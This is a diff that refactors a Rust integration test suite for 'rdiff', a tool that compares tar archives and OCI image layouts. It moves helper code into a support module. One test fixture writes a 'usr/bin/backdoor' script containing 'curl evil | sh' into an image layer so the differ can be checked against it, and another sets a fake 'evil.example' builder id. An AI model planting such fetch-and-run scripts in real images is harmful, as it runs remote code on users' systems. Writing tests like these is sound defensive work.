@@ -12,20 +12,18 @@
 
 mod support;
 
-use std::collections::BTreeSet;
 use std::io::Write;
-use std::path::{Path, PathBuf};
-use std::process::{Command, Stdio};
 
 use serde_json::Value;
-use support::oci;
+use support::data::{gzip, zstd};
+use support::oci::{self, Layout};
+use support::paths::s;
 use support::rawtar::{self, Hdr, finish, pax, pax_raw};
-use support::run::RDIFF;
+use support::report::{Pairs, diff_at as entry, field, ignored, set, visible};
+use support::run::{json_report, rdiff};
 
 // ---------------------------------------------------------------------------------
 // helpers
-
-type Pairs = BTreeSet<(String, String)>;
 
 /// What one run must give: the extra flags, and exactly these visible (path, field)
 /// pairs (the exit code follows: 0 for none, 1 otherwise). A field written `name?` may
@@ -33,68 +31,10 @@ type Pairs = BTreeSet<(String, String)>;
 /// `bytes_do_not_repeat_value_differences`).
 type Case<'a> = (&'a [&'a str], &'a [(&'a str, &'a str)]);
 
-fn set(items: &[(&str, &str)]) -> Pairs {
-    items
-        .iter()
-        .map(|(a, b)| (a.to_string(), b.to_string()))
-        .collect()
-}
-
-/// The visible differences of a report as (path, field name) pairs; an added or
-/// removed entry as (path, "+") or (path, "-").
-fn visible(r: &Value) -> Pairs {
-    let mut out = BTreeSet::new();
-    for d in r["differences"].as_array().into_iter().flatten() {
-        let p = d["path"].as_str().unwrap_or("?").to_string();
-        match d["status"].as_str() {
-            Some("added") => {
-                out.insert((p, "+".into()));
-            }
-            Some("removed") => {
-                out.insert((p, "-".into()));
-            }
-            _ => {
-                for f in d["fields"].as_array().into_iter().flatten() {
-                    out.insert((p.clone(), f["name"].as_str().unwrap().to_string()));
-                }
-            }
-        }
-    }
-    out
-}
-
-/// The hidden differences of a report as (rule, field) pairs.
-fn ignored(r: &Value) -> Pairs {
-    r["ignored"]
-        .as_array()
-        .into_iter()
-        .flatten()
-        .map(|i| {
-            (
-                i["rule"].as_str().unwrap().to_string(),
-                i["field"].as_str().unwrap().to_string(),
-            )
-        })
-        .collect()
-}
-
 /// `rdiff CMD --format json FLAGS LEFT RIGHT`: the exit code and the report. Any error
 /// (exit 2, or anything on standard error) fails the test.
 fn run(cmd: &str, flags: &[&str], left: &str, right: &str) -> (i32, Value) {
-    let out = Command::new(RDIFF)
-        .args([cmd, "--format", "json"])
-        .args(flags)
-        .args([left, right])
-        .stdin(Stdio::null())
-        .output()
-        .unwrap();
-    let code = out.status.code().unwrap_or(-1);
-    assert!(
-        code != 2 && out.stderr.is_empty(),
-        "rdiff {cmd} {flags:?}: exit {code}: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    (code, serde_json::from_slice(&out.stdout).unwrap())
+    json_report(cmd, &[flags, &[left, right]].concat())
 }
 
 /// Check a report's visible differences against `want` (see [`Case`]).
@@ -156,32 +96,6 @@ fn check_rootfs(a: &[u8], b: &[u8], ext: &str, cases: &[Case]) -> Vec<Value> {
     check("rootfs", s(&pa), s(&pb), &cases)
 }
 
-fn s(p: &Path) -> &str {
-    p.to_str().unwrap()
-}
-
-/// The one field `name` of the difference at `path`.
-fn field<'a>(r: &'a Value, path: &str, name: &str) -> &'a Value {
-    r["differences"]
-        .as_array()
-        .into_iter()
-        .flatten()
-        .filter(|d| d["path"] == path)
-        .flat_map(|d| d["fields"].as_array().unwrap())
-        .find(|f| f["name"] == name)
-        .unwrap_or_else(|| panic!("no {path} {name} in {}", r["differences"]))
-}
-
-/// The difference at `path`.
-fn entry<'a>(r: &'a Value, path: &str) -> &'a Value {
-    r["differences"]
-        .as_array()
-        .into_iter()
-        .flatten()
-        .find(|d| d["path"] == path)
-        .unwrap_or_else(|| panic!("no {path} in {}", r["differences"]))
-}
-
 /// A regular file member.
 fn file(name: &str, data: &[u8]) -> Vec<u8> {
     Hdr::new(name).member(data)
@@ -190,131 +104,6 @@ fn file(name: &str, data: &[u8]) -> Vec<u8> {
 /// A hardlink member `name` -> `target`.
 fn hardlink(name: &str, target: &str) -> Vec<u8> {
     Hdr::new(name).typeflag(b'1').linkname(target).block()
-}
-
-fn zstd(data: &[u8], level: i32) -> Vec<u8> {
-    zstd::bulk::compress(data, level).unwrap()
-}
-
-fn gzip(data: &[u8]) -> Vec<u8> {
-    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
-    e.write_all(data).unwrap();
-    e.finish().unwrap()
-}
-
-/// A copy of an OCI image layout from `testdata/image/oci/`, edited in place: a blob
-/// replaced by other bytes gets its descriptors rewritten (digest and size, as text, so
-/// that nothing else of the documents that point to it changes), up to index.json.
-struct Layout {
-    root: PathBuf,
-}
-
-impl Layout {
-    fn copy(name: &str, into: &Path) -> Layout {
-        let root = into.join(name);
-        copy_dir(
-            &support::paths::testdata(&format!("image/oci/{name}")),
-            &root,
-        );
-        Layout { root }
-    }
-
-    fn path(&self) -> &str {
-        s(&self.root)
-    }
-
-    fn blob_path(&self, digest: &str) -> PathBuf {
-        self.root
-            .join("blobs/sha256")
-            .join(&digest["sha256:".len()..])
-    }
-
-    fn blob(&self, digest: &str) -> Vec<u8> {
-        std::fs::read(self.blob_path(digest)).unwrap()
-    }
-
-    fn put(&self, bytes: &[u8]) -> String {
-        let d = oci::digest(bytes);
-        std::fs::write(self.blob_path(&d), bytes).unwrap();
-        d
-    }
-
-    fn index_bytes(&self) -> Vec<u8> {
-        std::fs::read(self.root.join("index.json")).unwrap()
-    }
-
-    fn json(bytes: &[u8]) -> Value {
-        serde_json::from_slice(bytes).unwrap()
-    }
-
-    fn manifest_digest(&self, i: usize) -> String {
-        Self::json(&self.index_bytes())["manifests"][i]["digest"]
-            .as_str()
-            .unwrap()
-            .to_string()
-    }
-
-    fn manifest(&self, i: usize) -> Value {
-        Self::json(&self.blob(&self.manifest_digest(i)))
-    }
-
-    fn config_digest(&self, i: usize) -> String {
-        self.manifest(i)["config"]["digest"]
-            .as_str()
-            .unwrap()
-            .to_string()
-    }
-
-    /// Replace the blob `old` by `edit(old bytes)` and re-chain every descriptor that
-    /// points to it; the new digest.
-    fn edit(&self, old: &str, edit: impl FnOnce(String) -> String) -> String {
-        let bytes = String::from_utf8(self.blob(old)).unwrap();
-        let new = edit(bytes.clone());
-        assert_ne!(new, bytes, "the edit of {old} changed nothing");
-        self.replace(old, new.as_bytes())
-    }
-
-    /// Replace the blob `old` by `new` (the old blob stays, unreferenced) and rewrite
-    /// `"digest":"OLD","size":N` in index.json and in every JSON blob; the new digest.
-    fn replace(&self, old: &str, new: &[u8]) -> String {
-        let old_size = self.blob(old).len();
-        let d = self.put(new);
-        let from = format!(r#""digest":"{old}","size":{old_size}"#);
-        let to = format!(r#""digest":"{d}","size":{}"#, new.len());
-        let index = String::from_utf8(self.index_bytes()).unwrap();
-        if index.contains(&from) {
-            std::fs::write(self.root.join("index.json"), index.replace(&from, &to)).unwrap();
-        }
-        let mut parents = Vec::new();
-        for e in std::fs::read_dir(self.root.join("blobs/sha256")).unwrap() {
-            let name = e.unwrap().file_name().into_string().unwrap();
-            let digest = format!("sha256:{name}");
-            if digest == d {
-                continue;
-            }
-            if let Ok(text) = String::from_utf8(self.blob(&digest))
-                && text.contains(&from)
-            {
-                parents.push(digest);
-            }
-        }
-        for p in parents {
-            self.edit(&p, |t| t.replace(&from, &to));
-        }
-        d
-    }
-}
-
-fn copy_dir(from: &Path, to: &Path) {
-    std::fs::create_dir_all(to).unwrap();
-    for e in std::fs::read_dir(from).unwrap() {
-        let e = e.unwrap();
-        if e.file_type().unwrap().is_dir() {
-            copy_dir(&e.path(), &to.join(e.file_name()));
-        } else {
-            std::fs::copy(e.path(), to.join(e.file_name())).unwrap();
-        }
-    }
 }
 
 // ---------------------------------------------------------------------------------
@@ -718,22 +507,15 @@ fn h8_dumpdir_does_not_depend_on_read_chunks() {
     let plain = t.path().join("d.tar");
     std::fs::write(&plain, &tar).unwrap();
 
-    let mut child = Command::new(RDIFF)
-        .args([
-            "rootfs",
-            "--format",
-            "json",
-            "--read-identical",
-            s(&plain),
-            "-",
-        ])
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap();
-    let mut stdin = child.stdin.take().unwrap();
-    let feed = std::thread::spawn(move || {
+    let out = rdiff([
+        "rootfs",
+        "--format",
+        "json",
+        "--read-identical",
+        s(&plain),
+        "-",
+    ])
+    .stdin_with(move |mut stdin| {
         let sizes = [1, 511, 4097, 65_537, 7, 100_003];
         let (mut off, mut i) = (0, 0);
         while off < tar.len() {
@@ -743,17 +525,12 @@ fn h8_dumpdir_does_not_depend_on_read_chunks() {
             off += n;
             i += 1;
         }
-    });
-    let out = child.wait_with_output().unwrap();
-    feed.join().unwrap();
-    assert!(
-        out.stderr.is_empty(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    let rep: Value = serde_json::from_slice(&out.stdout).unwrap();
+    })
+    .run();
+    assert!(out.stderr.is_empty(), "{}", out.stderr);
+    let rep = out.json();
     assert_eq!(visible(&rep), set(&[]));
-    assert_eq!(out.status.code(), Some(0));
+    assert_eq!(out.status, Some(0));
     assert_eq!(rep["identical"], true);
 
     check_rootfs(
@@ -815,19 +592,16 @@ fn d2_sparse_holes_add_up_to_the_size_limit() {
     let p = t.path().join("sparse.tar");
     std::fs::write(&p, &tar).unwrap();
 
-    let out = Command::new(RDIFF)
-        .args([
-            "rootfs",
-            "--read-identical",
-            "--max-uncompressed-size",
-            "10000000",
-        ])
-        .args([&p, &p])
-        .stdin(Stdio::null())
-        .output()
-        .unwrap();
-    assert_eq!(out.status.code(), Some(2));
-    let err = String::from_utf8_lossy(&out.stderr);
+    let out = rdiff([
+        "rootfs",
+        "--read-identical",
+        "--max-uncompressed-size",
+        "10000000",
+    ])
+    .args([&p, &p])
+    .run();
+    assert_eq!(out.status, Some(2));
+    let err = &out.stderr;
     assert!(
         err.contains("the uncompressed stream is over 10000000 bytes (--max-uncompressed-size)"),
         "{err}"
@@ -853,17 +627,17 @@ fn d2_sparse_holes_add_up_to_the_size_limit() {
 #[test]
 fn i4_oci_layout_file_contents() {
     let t = tempfile::tempdir().unwrap();
-    let a = Layout::copy("base", &t.path().join("a"));
+    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
     for (i, content) in [r#"{"imageLayoutVersion":"9.9.9"}"#, "this is not JSON"]
         .iter()
         .enumerate()
     {
-        let b = Layout::copy("base", &t.path().join(format!("b{i}")));
-        std::fs::write(b.root.join("oci-layout"), content).unwrap();
+        let b = Layout::copy("oci/base", &t.path().join(format!("b{i}")), "base");
+        std::fs::write(b.dir.join("oci-layout"), content).unwrap();
         check(
             "image",
-            a.path(),
-            b.path(),
+            &a.path(),
+            &b.path(),
             &[
                 (&[], &[("index", "oci_layout")]),
                 (&["--ignore-manifest-format"], &[]),
@@ -880,14 +654,14 @@ fn i4_oci_layout_file_contents() {
 #[test]
 fn i5_attestation_layer_content() {
     let t = tempfile::tempdir().unwrap();
-    let a = Layout::copy("multi", &t.path().join("a"));
-    let b = Layout::copy("multi", &t.path().join("b"));
+    let a = Layout::copy("oci/multi", &t.path().join("a"), "multi");
+    let b = Layout::copy("oci/multi", &t.path().join("b"), "multi");
     let att = b.manifest(2);
     assert_eq!(
         att["layers"][0]["mediaType"],
         "application/vnd.in-toto+json"
     );
-    b.edit(att["layers"][0]["digest"].as_str().unwrap(), |s| {
+    b.edit_text(att["layers"][0]["digest"].as_str().unwrap(), |s| {
         s.replace(
             r#""builder":{"id":""}"#,
             r#""builder":{"id":"https://evil.example/builder"}"#,
@@ -896,8 +670,8 @@ fn i5_attestation_layer_content() {
     let blob = &[("attestation/linux/amd64/layers/0", "blob")];
     check(
         "image",
-        a.path(),
-        b.path(),
+        &a.path(),
+        &b.path(),
         &[
             (
                 &[],
@@ -922,18 +696,18 @@ fn i5_attestation_layer_content() {
 #[test]
 fn i6_layer_pair_adding_and_whiting_out_a_file() {
     let t = tempfile::tempdir().unwrap();
-    let a = Layout::copy("base", &t.path().join("a"));
-    let b = Layout::copy("base", &t.path().join("b"));
+    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
+    let b = Layout::copy("oci/base", &t.path().join("b"), "base");
     let payload = finish(&[&file("usr/bin/backdoor", b"#!/bin/sh\ncurl evil | sh\n")]);
     let whiteout = finish(&[&file("usr/bin/.wh.backdoor", b"")]);
-    let (dp, dw) = (b.put(&payload), b.put(&whiteout));
-    b.edit(&b.config_digest(0), |s| {
+    let (dp, dw) = (b.put(&payload).0, b.put(&whiteout).0);
+    b.edit_text(&b.config_digest(0), |s| {
         s.replace(
             r#""]},"history""#,
             &format!(r#"","{dp}","{dw}"]}},"history""#),
         )
     });
-    b.edit(&b.manifest_digest(0), |s| {
+    b.edit_text(&b.manifest_digest(0), |s| {
         let tar = "application/vnd.oci.image.layer.v1.tar";
         let layer =
             |d: &str, n: usize| format!(r#"{{"mediaType":"{tar}","digest":"{d}","size":{n}}}"#);
@@ -949,8 +723,8 @@ fn i6_layer_pair_adding_and_whiting_out_a_file() {
     assert_eq!(b.manifest(0)["layers"].as_array().unwrap().len(), 4);
     check(
         "image",
-        a.path(),
-        b.path(),
+        &a.path(),
+        &b.path(),
         &[
             (
                 &[],
@@ -997,16 +771,16 @@ fn i6_layer_pair_adding_and_whiting_out_a_file() {
 #[test]
 fn i1_config_bytes_with_the_same_json() {
     let t = tempfile::tempdir().unwrap();
-    let a = Layout::copy("base", &t.path().join("a"));
+    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
     let escape = |s: String| s.replace(r#""os":"linux""#, r#""os":"\u006cinux""#);
     let spacing = |s: String| s.replace(r#""os":"linux","#, "\"os\":  \"linux\" ,\n ");
     for (i, edit) in [escape, spacing].into_iter().enumerate() {
-        let b = Layout::copy("base", &t.path().join(format!("b{i}")));
-        b.edit(&b.config_digest(0), edit);
+        let b = Layout::copy("oci/base", &t.path().join(format!("b{i}")), "base");
+        b.edit_text(&b.config_digest(0), edit);
         check(
             "image",
-            a.path(),
-            b.path(),
+            &a.path(),
+            &b.path(),
             &[
                 (
                     &[],
@@ -1039,7 +813,7 @@ fn i1_config_bytes_with_the_same_json() {
 #[test]
 fn i2_index_spelling_beside_an_image_name() {
     let t = tempfile::tempdir().unwrap();
-    let a = Layout::copy("base", &t.path().join("a"));
+    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
     let name = |s: &str| {
         s.replace(
             r#""annotations":{"#,
@@ -1048,15 +822,15 @@ fn i2_index_spelling_beside_an_image_name() {
     };
     let annotation = ("manifest", "annotations.io.containerd.image.name");
 
-    let b = Layout::copy("base", &t.path().join("b"));
+    let b = Layout::copy("oci/base", &t.path().join("b"), "base");
     let index = String::from_utf8(b.index_bytes()).unwrap();
     let spaced: Value = serde_json::from_str(&name(&index)).unwrap();
     let pretty = serde_json::to_string_pretty(&spaced).unwrap() + "\n\n\n";
-    std::fs::write(b.root.join("index.json"), pretty).unwrap();
+    std::fs::write(b.dir.join("index.json"), pretty).unwrap();
     check(
         "image",
-        a.path(),
-        b.path(),
+        &a.path(),
+        &b.path(),
         &[
             (&[], &[("index", "bytes"), annotation]),
             (&["--ignore-image-name"], &[("index", "bytes")]),
@@ -1079,18 +853,18 @@ fn i2_index_spelling_beside_an_image_name() {
 #[test]
 fn bytes_repeat_structural_differences_until_manifest_format_is_ignored() {
     let t = tempfile::tempdir().unwrap();
-    let a = Layout::copy("base", &t.path().join("a"));
-    let c = Layout::copy("base", &t.path().join("c"));
+    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
+    let c = Layout::copy("oci/base", &t.path().join("c"), "base");
     let index = String::from_utf8(c.index_bytes()).unwrap();
     let added = index.replace(
         r#""annotations":{"#,
         r#""annotations":{"io.containerd.image.name":"example.invalid/x:v1","#,
     );
-    std::fs::write(c.root.join("index.json"), added).unwrap();
+    std::fs::write(c.dir.join("index.json"), added).unwrap();
     check(
         "image",
-        a.path(),
-        c.path(),
+        &a.path(),
+        &c.path(),
         &[
             (
                 &[],
@@ -1173,7 +947,7 @@ fn i3_unreferenced_large_archive_member() {
 #[test]
 fn i7_bytes_in_the_padding_after_a_layer_blob() {
     let t = tempfile::tempdir().unwrap();
-    let l = Layout::copy("base", t.path());
+    let l = Layout::copy("oci/base", t.path(), "base");
     // A layer of 1.5 MiB of noise (gzip cannot shrink it under 1 MiB).
     let mut rng = support::data::Rng::new(7);
     let (layer, gz) = (100..)
@@ -1186,12 +960,12 @@ fn i7_bytes_in_the_padding_after_a_layer_blob() {
         .unwrap();
     assert!(gz.len() > 1 << 20);
     let m = l.manifest(0);
-    let old_diff_id = Layout::json(&l.blob(&l.config_digest(0)))["rootfs"]["diff_ids"][1]
+    let old_diff_id = l.config(0)["rootfs"]["diff_ids"][1]
         .as_str()
         .unwrap()
         .to_string();
-    let gz_digest = l.replace(m["layers"][1]["digest"].as_str().unwrap(), &gz);
-    l.edit(&l.config_digest(0), |s| {
+    let gz_digest = l.replace_blob(m["layers"][1]["digest"].as_str().unwrap(), &gz);
+    l.edit_text(&l.config_digest(0), |s| {
         s.replace(&old_diff_id, &oci::digest(&layer))
     });
 
@@ -1209,7 +983,7 @@ fn i7_bytes_in_the_padding_after_a_layer_blob() {
     let mut arch = Vec::new();
     let mut padding = None;
     for n in &names {
-        let data = std::fs::read(l.root.join(n)).unwrap();
+        let data = std::fs::read(l.dir.join(n)).unwrap();
         arch.extend(Hdr::new(n).mtime(0).member(&data));
         if n.ends_with(&gz_digest[7..]) {
             padding = Some(arch.len() - (512 - data.len() % 512)..arch.len());
